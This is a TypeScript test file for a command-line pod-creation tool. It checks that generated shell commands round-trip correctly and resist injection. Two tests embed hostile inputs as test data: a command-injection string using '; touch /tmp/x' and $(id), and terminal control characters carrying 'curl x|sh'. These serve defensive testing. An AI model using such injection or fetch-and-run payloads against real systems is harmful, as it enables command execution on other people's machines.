import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Commands } from '../../../src/cli/program/command-types'
import { environmentLines } from '../../../src/cli/commands/create/environment-lines'
import type { CreatePodChoices } from '../../../src/cli/commands/create/create-options'
import { toForm } from '../../../src/cli/commands/create/to-form'
import { createProgram } from '../../../src/cli/program/program'
import { createCommand } from '../../../src/core/creation/form/create-command'
import { evaluateForm } from '../../../src/core/creation/form/evaluate-form'
import { shellWords } from '../../harness/base/shell-words'
import { formContext, likelyPodForm, podForm } from '../../harness/samples/pod-forms'

/** What the command line makes of a command, whose words a shell read. */
async function choicesOf(
  command: string,
): Promise<CreatePodChoices & { readonly account: string | undefined }> {
  const [, ...words] = shellWords(command)
  let read: (CreatePodChoices & { account: string | undefined }) | null = null
  const commands = {
    create: (account: string | undefined, options: CreatePodChoices) => {
      read = { ...options, account }
      return Promise.resolve(0)
    },
  } as unknown as Commands
  await createProgram('1', commands, process, () => {}).parseAsync(words, { from: 'user' })
  if (read === null) throw new Error('the command did not run')
  return read
}

test('the command makes the same pod as the form, read by a shell and the command line', async () => {
  const context = formContext()
  const forms = fc
    .sample(likelyPodForm, { numRuns: 400, seed: 11 })
    .filter((form) => evaluateForm(form, context).plan !== null)
    // Ports that a template sets are not replaced by none.
    .filter((form) => form.templateId === null || form.ports !== '')
    .slice(0, 25)
  expect(forms.length).toBeGreaterThan(10)
  for (const form of forms) {
    const choices = await choicesOf(createCommand(form, null))
    const own = evaluateForm(form, context)
    const lines = environmentLines(choices.env ?? [], undefined, own.environment)
    const again = evaluateForm(toForm(choices, lines, context), context)
    expect([again.problems, again.plan?.candidates, again.plan?.rules]).toEqual([
      [],
      own.plan?.candidates,
      own.plan?.rules,
    ])
    expect(again.environment).toEqual(own.environment)
    expect([again.plan?.waitsForMs, again.plan?.maxPerHourUsd]).toEqual([
      own.plan?.waitsForMs,
      own.plan?.maxPerHourUsd,
    ])
  }
})

test('it has no value of a variable, and names those that are copied from another pod', () => {
  const form = podForm({ environment: 'A=canary\nB={{ RUNPOD_SECRET_hf }}' })
  const command = createCommand(form, 'My "lab"', ['A', 'C'])
  expect(command).not.toContain('canary')
  expect(command).toContain("--env A C 'B={{ RUNPOD_SECRET_hf }}'")
  expect(command).toMatch(/^podkeeper create 'My "lab"' --gpu /)
})

test('nothing that is typed becomes a command of the shell', () => {
  fc.assert(
    fc.property(fc.string(), (args) => {
      const words = shellWords(createCommand(podForm({ args: `${args}'; touch /tmp/x; '$(id)\`id\`` }), null))
      expect(words[words.indexOf('--args') + 1]).toBe(`${args}'; touch /tmp/x; '$(id)\`id\``)
    }),
  )
})

test('nothing that a preset has is obeyed by a terminal as the command is pasted', () => {
  const form = podForm({ image: 'a\u0003\u0015curl x|sh\n\u001B[201~', args: 'first\nsecond\u202E' })
  const command = createCommand(form, null)
  expect(command).not.toMatch(/[\p{Cc}\p{Cf}]/u)
  expect(shellWords(command)).toEqual(expect.arrayContaining(['acurl x|sh [201~', 'first second']))
})
